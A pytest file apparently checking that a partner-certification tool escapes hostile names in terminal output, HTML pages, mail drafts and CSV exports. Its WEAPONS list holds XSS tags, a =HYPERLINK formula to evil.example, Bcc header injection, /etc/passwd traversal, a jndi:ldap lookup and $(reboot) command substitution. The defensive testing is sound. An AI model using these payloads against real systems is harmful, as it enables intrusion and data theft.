"""Hostile text from partners: harmless on a terminal, in a page, mail, spreadsheet or file name."""

import re
import unicodedata
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from tests.commands import Commands
from tests.exporting import csv_of
from tests.people import person
from tests.torture import homes

WEAPONS = [
    "\x1b]0;owned\x07\x1b[2J\x1b[1A",
    "Robert\u202egnp.exe",
    "</td><script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","x")',
    "x\r\nBcc: all@evil.example\r\n\r\nHello",
    "../../../../etc/passwd\x00",
    "| a | [x](http://evil.example) `` ${jndi:ldap://evil} |",
    "{{ 7 * 7 }}{% raw %}%s%n$(reboot);`id`",
    "a\u200bb\u2066c\u2069\ufeff\u00ad",
    "\u2028\u2029\x85\x0b\x0c",
]
SAFE = [weapon.replace("\x00", "") for weapon in WEAPONS]  # NUL refuses a file


@pytest.fixture(scope="module")
def home(commands: Commands, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A released night of companies and people with hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    people = [
        person(weapon, f"p{n}@w{n}.example", Mailing_Street=weapon, Administrative_Privileges=weapon)
        | {"Account ID": str(n + 1), "Account Name": f"{weapon} {n}"}
        for n, weapon in enumerate(SAFE)
    ]
    (folder / "export.csv").write_bytes(csv_of(people))
    (folder / "next.csv").write_bytes(csv_of([one | {"Sales Badged": "True"} for one in people]))
    for arguments in ("nightly export.csv", "approve latest --all --by Jo", "release", "nightly next.csv"):
        run(commands, folder, arguments)
    return folder / "home"


def run(commands: Commands, folder: Path, arguments: str) -> tuple[str, str]:
    """The command's standard output and error."""
    result = commands.call(folder, *arguments.split(), PARTNER_CERTS_HOME=str(folder / "home"))
    assert result.returncode in (0, 4, 6), result.stderr
    return result.stdout, result.stderr


def test_a_terminal_gets_plain_text(commands: Commands, home: Path) -> None:
    """No control, bidi or invisible characters, except line ends."""
    commands_shown = [
        "runs",
        "show latest",
        "review --full",
        "review --account 1",
        "history 2",
        "contacts",
        "contacts check",
    ]
    commands_shown += ["draft --all --no-to", "overview", "workbook 3", "account 4 export.csv", "check next.csv"]
    for command in commands_shown:
        for stream in run(commands, home.parent, command):
            controls = {
                sign for sign in stream if unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp") and sign != "\n"
            }
            assert not controls, (command, controls)
    assert homes.check(home, at_rest=True).ready


def test_pages_escape_it(commands: Commands, home: Path) -> None:
    """Neither the review page nor the overview has elements or scripts from partners."""
    run(commands, home.parent, "overview")
    for page in [*home.glob("runs/*/review.html"), home / "overview.html"]:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        assert not re.search(r"\x1b|\x07", text)


def test_no_mail_header_is_injected(commands: Commands, home: Path) -> None:
    """A name with line breaks adds or drops none."""
    run(commands, home.parent, "draft --all --no-to --again")
    drafts = list(home.glob("drafts/*.eml"))
    assert len(drafts) >= len(SAFE)
    for path in drafts:
        mail = message_from_bytes(path.read_bytes(), policy=policy.SMTP)
        assert {name.casefold() for name in mail} <= {
            *("x-unsent", "to", "subject", "mime-version", "content-type"),
        }
        assert "\n" not in str(mail["Subject"])


def test_a_spreadsheet_executes_none_of_it(home: Path) -> None:
    """Cells that look like formulas start with an apostrophe."""
    cells = [cell for path in home.glob("ready/*.csv") for cell in re.split(r'[,"\r\n]+', path.read_text("utf-8-sig"))]
    assert "'=HYPERLINK(" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]


def test_a_look_alike_name_is_reported_everywhere(commands: Commands, tmp_path: Path) -> None:
    """By `account`, `review`, `approve` and `draft`; the other company is ready."""
    known, alike = person("Ana", "a@one.example"), person("Bo", "b@two.example")
    known |= {"Account ID": "1", "Account Name": "CCCP Inc"}
    alike |= {"Account ID": "2", "Account Name": "СССР lnc"}
    (tmp_path / "first.csv").write_bytes(csv_of([known]))
    (tmp_path / "next.csv").write_bytes(csv_of([known, alike]))
    for arguments in ("nightly first.csv", "approve latest --all --by Jo", "release"):
        run(commands, tmp_path, arguments)
    text = "The name looks like that of CCCP Inc"
    assert text in run(commands, tmp_path, "account 2 next.csv")[0]
    run(commands, tmp_path, "nightly next.csv")
    assert text in run(commands, tmp_path, "review --account 2")[0]
    assert f"СССР lnc: {text}" in run(commands, tmp_path, "approve latest --account 2 --by Jo")[1]
    run(commands, tmp_path, "release")
    assert f"СССР lnc: {text}" in run(commands, tmp_path, "draft 2 --no-to")[1]
